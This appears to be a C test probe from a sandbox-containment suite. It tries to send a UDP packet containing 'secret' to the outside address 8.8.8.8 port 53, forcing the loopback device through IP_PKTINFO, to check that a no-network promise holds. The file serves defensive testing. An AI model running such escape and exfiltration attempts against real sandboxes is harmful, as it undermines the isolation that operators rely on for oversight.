/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: pass the routes by, with a packet that names the device it leaves by
 * Promise:  no-network
 * Oracle:   network
 * Stops:    EAGAIN=namespace ENETUNREACH=namespace
 * Not promised: process=process-network
 * Because:  the only device is the cell's own lo, where the packet goes round and is dropped;
 *           that none was counted on the host's is what proves it
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <sys/time.h>

#include "attacks/attack.h"

ATTACK(name_the_device_in_the_packet)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
	                         .sin_port = htons(53),
	                         .sin_addr.s_addr = htonl(0x08080808)};
	union {
		struct cmsghdr header;
		char room[CMSG_SPACE(sizeof(struct in_pktinfo))];
	} control = {.header = {.cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo)),
	                        .cmsg_level = IPPROTO_IP,
	                        .cmsg_type = IP_PKTINFO}};
	struct in_pktinfo *info = (struct in_pktinfo *)CMSG_DATA(&control.header);
	struct iovec data = {.iov_base = (char[]){"secret"}, .iov_len = 6};
	struct msghdr message = {.msg_name = &to,
	                         .msg_namelen = sizeof(to),
	                         .msg_iov = &data,
	                         .msg_iovlen = 1,
	                         .msg_control = &control,
	                         .msg_controllen = sizeof(control)};
	struct timeval wait = {.tv_usec = 500000};
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	char answer[64];

	info->ipi_ifindex = 1;
	(void)setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	if (sendmsg(s, &message, 0) < 0)
		attack_stopped("sendmsg");
	else if (recv(s, answer, sizeof(answer), 0) < 0)
		attack_stopped("recv");
	return 0;
}
